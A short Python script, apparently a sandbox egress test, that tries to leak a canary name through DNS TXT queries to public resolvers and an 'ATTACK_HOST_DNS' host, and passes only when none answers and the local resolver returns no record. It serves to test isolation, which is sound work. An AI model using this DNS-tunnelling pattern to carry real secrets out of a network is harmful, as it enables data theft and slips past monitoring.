#!/usr/bin/env python3
# class: network
# tries: smuggle a secret out in the names of DNS queries
# must: be answered within the room, if at all
# needs: python3

import os, random, socket, struct, sys
# A server of the host's resolv.conf, and a public one: neither may be reachable. The room's own may answer, and tell nobody.
name = "CANARY-leak-%x" % random.getrandbits(60)
question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + bytes([len(name)]) + name.encode() + b"\x07example\x03com\x00" + struct.pack(">HH", 16, 1)
for server in ["8.8.8.8", "1.1.1.1", "9.9.9.9", os.environ.get("ATTACK_HOST_DNS", "169.254.169.253")]:
    query = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    query.settimeout(1.5)
    try:
        query.sendto(question, (server, 53))
        answer, sender = query.recvfrom(2000)
        print(f"{server} answered {len(answer)} bytes")
        sys.exit(7)
    except OSError as fault:
        last = fault
# And the room's own resolver may know no answer to a question of text.
query = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
query.settimeout(3)
try:
    query.sendto(question, ("127.0.0.1", 53))
    answer, _ = query.recvfrom(2000)
    if struct.unpack(">H", answer[6:8])[0]:
        print("a text record came back: somebody outside was asked")
        sys.exit(7)
except OSError as fault:
    last = fault
print("nobody outside was asked:", last)
